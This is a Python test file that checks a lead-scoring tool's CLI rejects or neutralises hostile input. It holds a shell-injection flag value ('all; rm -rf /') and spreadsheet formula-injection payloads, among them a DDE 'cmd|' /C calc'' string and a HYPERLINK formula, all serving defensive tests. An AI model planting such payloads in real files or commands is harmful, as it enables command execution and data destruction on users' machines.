"""Hostile input on the daily job's new paths: score's --explain / --report flags, audit, run-job specs."""

import io
import json

import numpy as np
import pandas as pd
import pytest
from support import store_with

from engine.cli import main
from engine.data.demo import demo_leads


@pytest.fixture(scope="module")
def trained(small_stack_run, tmp_path_factory):
    """(workspace, run): a workspace of the module holding a copy of the session's small stack."""
    root = tmp_path_factory.mktemp("daily") / "workspace"
    run = small_stack_run[0]
    return root, store_with(run, root / "runs").get(run.id)


@pytest.fixture
def ws(trained, monkeypatch):
    monkeypatch.setenv("CLAB_WORKSPACE", str(trained[0]))
    return trained


@pytest.fixture
def new_leads(tmp_path):
    path = tmp_path / "new.csv"
    demo_leads(n=40, seed=8).drop(columns=["Converted"]).to_csv(path, index=False)
    return path


@pytest.mark.parametrize("value", ["-1", "abc", "1.5", "", "all; rm -rf /"])
def test_score_explain_flag_refuses_what_is_not_a_count(ws, new_leads, capsys, value):
    with pytest.raises(SystemExit) as exit_info:
        main(["score", "--data", str(new_leads), "--explain", value])
    assert exit_info.value.code == 2
    assert "--explain" in capsys.readouterr().err


def test_score_explain_all_and_zero(ws, new_leads, tmp_path):
    out = tmp_path / "out.csv"
    assert main(["score", "--data", str(new_leads), "--out", str(out), "--explain", "all"]) == 0
    assert pd.read_csv(out)["has_reasons"].all()
    assert main(["score", "--data", str(new_leads), "--out", str(out), "--explain", "0"]) == 0
    assert not pd.read_csv(out)["has_reasons"].any()


def test_score_report_goes_where_asked_and_refuses_a_folder(ws, new_leads, tmp_path, capsys):
    report = tmp_path / "r.json"
    assert main(["score", "--data", str(new_leads), "--report", str(report)]) == 0
    body = json.loads(report.read_text())
    assert body["rows"] == 40 and "shift" in body and body["report"]["rows"] == 40
    assert main(["score", "--data", str(new_leads), "--report", str(tmp_path)]) == 2
    assert "is a folder" in capsys.readouterr().err
    assert main(["score", "--data", str(new_leads), "--report", str(tmp_path / "no" / "r.json")]) == 2


def test_score_cells_that_a_spreadsheet_would_run_are_neutralised(ws, tmp_path):
    leads = demo_leads(n=20, seed=9).drop(columns=["Converted"])
    leads["Prospect ID"] = ['=HYPERLINK("http://x","y")'] + list(leads["Prospect ID"].iloc[1:])
    leads["Lead Source"] = "@SUM(A1:A9)"
    path = tmp_path / "evil.csv"
    leads.to_csv(path, index=False)
    out = tmp_path / "out.csv"
    assert main(["score", "--data", str(path), "--out", str(out)]) == 0
    back = pd.read_csv(out)
    assert back["Prospect ID"].str.startswith("'=").sum() == 1 and back["Lead Source"].str.startswith("'@").all()


@pytest.mark.parametrize("dtype", ["category", "string[pyarrow]", "string", object])
def test_score_out_neutralises_a_parquet_upload_of_any_text_dtype_in_csv_and_excel(ws, tmp_path, dtype):
    """Issue 22: Parquet text columns stored dictionary-encoded (categoricals) or as arrow strings, and
    formula column headers, once passed ``score --out`` and the Score page's downloads untouched."""
    import openpyxl

    from engine.scoring import read_rows, score_frame

    formulas = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "=1+1", "+1+cmd|' /C calc'!A0", "  @SUM(A1)"]
    leads = demo_leads(n=20, seed=9).drop(columns=["Converted"])
    leads["Lead Source"] = pd.Series([formulas[i % 4] for i in range(20)], dtype=dtype)  # a column the run uses
    leads["=cmd|' /C calc'!A0"] = pd.Series(["-1+2"] * 20, dtype=dtype)
    path = tmp_path / "evil.parquet"
    leads.to_parquet(path)
    out = tmp_path / "out.csv"
    assert main(["score", "--data", str(path), "--out", str(out)]) == 0
    back = pd.read_csv(out, keep_default_na=False)
    assert sorted(set(back["Lead Source"])) == sorted("'" + f for f in formulas)
    assert (back["'=cmd|' /C calc'!A0"] == "'-1+2").all()
    assert not back.map(lambda v: isinstance(v, str) and v.lstrip().startswith(("=", "+", "-", "@"))).any().any()
    # the Score page's Excel download of the same list
    run = ws[1]
    scored = score_frame(run, read_rows(run, path, filename="evil.parquet"), explain=0)
    sheet = openpyxl.load_workbook(io.BytesIO(scored.export_excel())).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    header = [c.value for c in sheet[1]]
    column = header.index("Lead Source") + 1
    assert sorted({sheet.cell(r, column).value for r in range(2, 22)}) == sorted("'" + f for f in formulas)
    assert "'=cmd|' /C calc'!A0" in header


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "empty"),
        (b"Lead Origin,TotalVisits\nAPI,3\nWeb,4\n", "target"),
        (b"Converted,Lead Origin\n1,API\n1,Web\n1,API\n", "single class"),
        (b"\x00\x01\x02binary\xff\xfe" * 50, ""),
    ],
)
def test_audit_refuses_tables_it_cannot_audit_with_one_clear_line(tmp_path, capsys, content, message):
    path = tmp_path / "t.csv"
    path.write_bytes(content)
    assert main(["audit", "leads", "--data", str(path)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error:") and len(err.splitlines()) == 1 and message in err.lower()


def test_audit_writes_its_json_and_names_a_planted_leak(tmp_path, capsys):
    leads = demo_leads(n=500, seed=3).drop(columns=["Tags", "Lead Quality"])
    leads["Call result"] = np.where(leads["Converted"] == 1, "Won - onboarding", "Lost")
    path = tmp_path / "crm.csv"
    leads.to_csv(path, index=False)
    out = tmp_path / "audit.json"
    assert main(["audit", "leads", "--data", str(path), "--json", str(out)]) == 0
    report = json.loads(out.read_text())
    assert report["flagged"] == ["Call result"]
    assert {"column", "auc", "missing_auc", "flagged", "reason"} <= set(report["columns"][0])
    assert '--exclude "Call result"' in capsys.readouterr().out
    assert main(["audit", "leads", "--data", str(path), "--json", str(tmp_path)]) == 2  # a folder


@pytest.mark.parametrize("text", ["inf", "-inf", "Infinity"])
def test_audit_reads_infinity_in_a_number_column_as_missing_as_training_does(tmp_path, capsys, text):
    """Issue 22: the text ``inf`` in a numeric column stopped ``audit leads`` with scikit-learn's "Input X
    contains infinity"; training (and scoring) read it as missing."""
    leads = demo_leads(n=300, seed=4).drop(columns=["Tags", "Lead Quality"])
    leads["TotalVisits"] = leads["TotalVisits"].astype(object)
    leads.loc[[3, 50, 120], "TotalVisits"] = text
    path = tmp_path / "inf.csv"
    leads.to_csv(path, index=False)
    out = tmp_path / "audit.json"
    assert main(["audit", "leads", "--data", str(path), "--json", str(out)]) == 0, capsys.readouterr().err
    visits = next(c for c in json.loads(out.read_text())["columns"] if c["column"] == "TotalVisits")
    assert visits["kind"] == "numeric" and 0.4 < visits["auc"] < 1.0
    assert visits["missing_share"] == pytest.approx((leads["TotalVisits"].isna().sum() + 3) / 300)


def test_score_reads_list_cells_of_a_parquet_file_as_text(ws, tmp_path, capsys):
    """A Parquet list column (cells that pandas cannot hash) in columns the run uses raised TypeError in the
    shift check and in scoring; the cells are read as their text: unseen values, or numbers that do not parse."""
    leads = demo_leads(n=30, seed=12).drop(columns=["Converted"])
    leads["Lead Source"] = [["Google", "Direct"]] * 30
    leads["TotalVisits"] = [[1, 2]] * 30
    leads["Extra"] = [{"a": 1}] * 30  # a struct column, not used by the run
    path = tmp_path / "lists.parquet"
    leads.to_parquet(path)
    report = tmp_path / "r.json"
    assert main(["score", "--data", str(path), "--report", str(report), "--explain", "0"]) == 0
    body = json.loads(report.read_text())
    assert body["rows"] == 30 and body["report"]["unseen_values"]["Lead Source"] == {"['Google', 'Direct']": 30}
    assert body["report"]["unparsed"]["TotalVisits"] == 30
    shifted = {c["column"]: c["level"] for c in body["shift"]["columns"]}
    assert shifted["Lead Source"] == "large" and "shift check:" in capsys.readouterr().err


@pytest.mark.parametrize(
    "spec, message",
    [
        ("{bad", "not valid JSON"),
        ("[]", "holds a list"),
        ('{"input_kind": "images"}', "input_kind"),
        ('{"input_kind": "leads", "argv": ["--quiet"]}', "unknown training spec field"),
        ('{"input_kind": "leads", "params": {"n_folds": "abc"}}', "n_folds"),
        ('{"input_kind": "leads", "exclude": "Tags"}', "exclude"),
        ('{"input_kind": "leads", "data": "/no/such/file.csv"}', "file.csv"),
    ],
)
def test_run_job_refuses_a_bad_spec_and_says_why_in_result_json(tmp_path, monkeypatch, spec, message):
    monkeypatch.setenv("CLAB_WORKSPACE", str(tmp_path / "ws"))
    folder = tmp_path / "job"
    folder.mkdir()
    (folder / "spec.json").write_text(spec)
    assert main(["run-job", str(folder)]) == 2
    result = json.loads((folder / "result.json").read_text())
    assert message in result["error"] and "run_id" not in result
    assert not (tmp_path / "ws" / "runs").exists() or not any((tmp_path / "ws" / "runs").iterdir())
